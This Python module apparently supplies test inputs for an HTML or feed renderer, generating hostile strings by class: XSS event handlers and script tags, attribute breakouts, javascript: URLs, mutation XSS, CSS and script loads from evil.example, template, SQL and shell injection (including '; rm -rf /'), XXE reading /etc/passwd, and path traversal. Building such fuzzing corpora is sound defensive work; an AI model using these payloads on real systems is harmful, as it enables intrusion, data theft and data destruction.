"""Texts that attack whoever shows them: one generator for each class of attack.

What each class is after stands in its name; the strings are made here. A script that ran would set `window.hit`.
"""

from collections.abc import Iterator
from itertools import islice

RUN = "hit=alert(1)"
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbegin", "onpageshow")
_LOADING = ("img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "x tabindex=1")
_GAPS = (" ", "/", "\t", "\n", "\f", "/x=1 ", "//")
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6A;avascript&#58;",
    "jav&Tab;ascript:",
    "vbscript:",
    "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD4",
    "view-source:javascript:",
    "feed:javascript:",
)
_CLOSERS = ("</title>", "</style>", "</textarea>", "</script>", "</noscript>", "</main></body></html>", "-->", "]]>")


def event_handlers() -> Iterator[str]:
    for tag, event in zip(_LOADING, _EVENTS, strict=True):
        yield f"<{tag} {event}={RUN}>"
        yield f"<{tag} {' '.join(f'{one}={RUN}' for one in _EVENTS)}>"
    for gap in _GAPS:
        yield f"<img{gap}src=x{gap}onerror{gap if gap.isspace() else ''}={RUN}>"
    yield f"<IMG SRC=x OnErRoR='{RUN}'>"
    yield f"<svg/onload={RUN}//<b>"
    yield f"<x style='animation-name:a' onanimationend={RUN}>"
    yield f'<img src="x` `<script>{RUN}</script>"` `>'


def script_elements() -> Iterator[str]:
    for name in (
        "script",
        "SCRIPT",
        "ScRiPt",
        "script/x",
        "script\n",
        "svg><script",
        "math><script",
        "script type=module",
    ):
        yield f"<{name}>{RUN}</script>"
        yield f"<{name}>{RUN}"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<<script>{RUN}//<</script>"
    yield f"<script\x00>{RUN}</script>"
    yield f"<!--><script>{RUN}</script>-->"
    yield f"<!-- --!><script>{RUN}</script>"
    yield f"<![CDATA[><script>{RUN}</script>]]>"
    yield f"<?x ><script>{RUN}</script>?>"
    yield "<script src=//evil.example/x.js></script>"
    yield "<script src='data:text/javascript,hit=1'></script>"


def attribute_breakouts() -> Iterator[str]:
    for quote in ('"', "'", "`", "&quot;", "&#34;", '\\"', "\u2019"):
        yield f"{quote}><script>{RUN}</script>"
        yield f"{quote} onmouseover={RUN} x={quote}"
        yield f"{quote} autofocus onfocus={RUN} tabindex=1 x={quote}-{RUN}-{quote}"
    for closer in _CLOSERS:
        yield f"{closer}<script>{RUN}</script>"
        yield f"{closer}<img src=x onerror={RUN}>"


def addresses_that_run() -> Iterator[str]:
    for scheme in _SCHEMES:
        code = f"{scheme}{RUN}"
        yield f'<a href="{code}">a</a> [a]({code}) ![a]({code}) <{code}> [b]\n\n[b]: {code}'
        yield code
    for place in (
        '<iframe src="{}">',
        "<iframe srcdoc='<script>{}</script>'>",
        '<form action="{}"><button>a</button></form>',
        '<button formaction="{}">a</button>',
        '<object data="{}">',
        '<embed src="{}">',
        '<svg><a xlink:href="{}"><text>a</text></a></svg>',
        '<svg><animate attributeName=href values="{}">',
        '<math href="{}">a</math>',
        '<base href="{}//">',
        '<meta http-equiv=refresh content="0;url={}">',
        '<link rel=stylesheet href="{}">',
        '<img srcset="{} 1x">',
        '<area href="{}">',
        '<video poster="{}">',
        '<a href="x" ping="{}">a</a>',
        '<p><a href="{}" style="position:fixed;inset:0">a</a>',
    ):
        yield place.format(f"javascript:{RUN}") + place.format("//evil.example/")


def trees_that_mutate() -> Iterator[str]:
    attack = f"<img src=x onerror={RUN}>"
    yield f'<noscript><p title="</noscript>{attack}">'
    yield f"<svg></p><style><a id='</style>{attack}'>"
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{attack}'>"
    yield f"<svg><foreignObject><style>{attack}</style>"
    yield f"<template><template>{attack}"
    yield f"<table><a href='{attack}'><td>{attack}"
    yield f"<select><option><style></option></select>{attack}</style>"
    yield f"<xmp><p title='</xmp>{attack}'>"
    yield f"<listing>&lt;{attack[1:]}</listing>"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{attack}"
    yield f"<plaintext>{attack}"
    yield f"<frameset onload={RUN}>"
    yield f"<b><p></b><script>{RUN}</script></p>"
    yield "<div>" * 300 + attack


def styles() -> Iterator[str]:
    yield "<style>@import '//evil.example/x.css'; * { background: url(//evil.example/x) }</style>"
    yield "<p style=\"background:url('//evil.example/x');position:fixed;inset:0\">a</p>"
    yield f"<p style='width: expression({RUN})'>a</p>"
    yield "<link rel=stylesheet href=//evil.example/x.css>"
    yield "<link rel=preload as=script href=//evil.example/x.js>"


def template_code() -> Iterator[str]:
    for code in ("7*7", "site.settings", "''.__class__.__mro__", "config"):
        yield from (f"{{{{{code}}}}}", f"{{% if {code} %}}", f"${{{code}}}", f"<%= {code} %>", f"#{{{code}}}")
    yield from ("%s%n%x%d", "{0.__class__}", "{entry}", "{year}", "$(touch /tmp/hit)", "`touch /tmp/hit`", "; rm -rf /")
    yield from ("' OR 1=1 --", "1; DROP TABLE notes", "\r\nSet-Cookie: hit=1", "=cmd|'/C calc'!A0")


def xml() -> Iterator[str]:
    yield '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'
    yield "]]><script>hit=1</script><![CDATA["
    yield "</description></item><item><title>forged</title>"
    yield "</content></entry><entry>"
    yield "<?xml version='1.0'?><?xml-stylesheet href='//evil.example/x.xsl'?>"
    yield from ("&nbsp;", "&lol;", "&#0;", "&#1;", "&#xD800;", "&#x110000;", "&amp;lt;script&amp;gt;", "&lt;b>")


def characters() -> Iterator[str]:
    yield "".join(map(chr, range(1, 32)))
    yield "".join(map(chr, range(127, 160)))
    yield "a\x00b"
    yield from (
        "\ufffe\uffff",
        "\ufdd0",
        "\U0001ffff",
        "\ufeffa",
        "\u2028a\u2029",
        "\u200b\u200e\u202ea\u202c",
        "\u061c",
    )
    yield "\U000e0001\U000e0041"
    yield "a" + "\u0301" * 60
    yield "\uff1cscript\uff1ehit=1\uff1c/script\uff1e"
    yield from ("\u0130\u0131\u017f\u212a", "ß\u1e9e", "\u00ad", "👩🏽‍🚀🏳️‍🌈", "﷽" * 5, "مرحبا" * 20, "田" * 60)
    yield "W" * 300


def values() -> Iterator[str]:
    yield from (
        "",
        " ",
        "null",
        "true",
        "~",
        "-",
        "0",
        "-1",
        "1e999",
        "NaN",
        "[]",
        "{}",
        "[x](",
        "![",
        "`",
        "```",
        "***",
    )
    yield from (
        "../../etc/passwd",
        "..",
        ".",
        "/",
        "//",
        "\\\\host\\share",
        "C:\\con",
        "CON",
        "%2e%2e%2f",
        "%00",
        "%zz",
    )
    yield from (
        "index.html",
        "feed.xml",
        "#",
        "##",
        "#1",
        "@",
        "@@",
        "---",
        "+++",
        "? !",
        "a: b",
        "- a",
        "&a *a",
        "!!python/x",
    )
    yield from (
        "http://",
        "https://[::1",
        "http://a b",
        "https://evil.example%2f@a.example",
        "//evil.example",
        "mailto:",
        "tel:x",
    )
    yield from (
        "http://user:pass@a.example/",
        "https://a.example/\u202e",
        "https://a_b-.example./?q='><",
        "www.",
        "a.b",
    )


CLASSES = (
    event_handlers,
    script_elements,
    attribute_breakouts,
    addresses_that_run,
    trees_that_mutate,
    styles,
    template_code,
    xml,
    characters,
    values,
)


def texts(*, one_of: int = 1) -> list[str]:
    """Every hostile text, each once; or one of so many of each class."""
    return list(dict.fromkeys(text for one in CLASSES for text in islice(one(), 0, None, one_of)))
